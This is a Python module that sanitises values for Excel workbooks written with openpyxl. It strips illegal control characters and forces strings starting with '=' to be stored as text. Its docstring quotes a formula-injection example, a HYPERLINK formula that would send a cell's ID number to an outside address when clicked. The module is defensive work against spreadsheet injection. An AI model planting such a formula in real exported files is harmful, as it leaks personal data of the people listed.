"""Cells every workbook Kantor writes: text stays text, and only characters Excel accepts.

A value like ``=HYPERLINK("http://…?"&A2,"klik")`` in an imported list must
come back as the text it was, never as a live formula that sends a NIK away
when clicked; and a control character (``_x0007_`` in the file) must not make
the whole workbook unwritable.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell

__all__ = ["safe_row", "safe_value"]


def safe_value(sheet: Any, value: Any) -> Any:
    """``value`` as a write-only sheet stores it: a string without control characters, as
    a text cell when it starts like a formula; anything else unchanged."""
    if isinstance(value, Cell):
        if isinstance(value.value, str):
            _make_text(value, value.value)
        return value
    if not isinstance(value, str):
        return value
    text = ILLEGAL_CHARACTERS_RE.sub("", value)
    if not text.startswith("="):
        return text
    cell = WriteOnlyCell(sheet, value=None)
    _make_text(cell, text)
    return cell


def _make_text(cell: Cell, text: str) -> None:
    cell.value = ILLEGAL_CHARACTERS_RE.sub("", text)
    cell.data_type = "s"  # openpyxl takes a leading "=" for a formula otherwise


def safe_row(sheet: Any, values: Iterable[Any]) -> list[Any]:
    return [safe_value(sheet, v) for v in values]
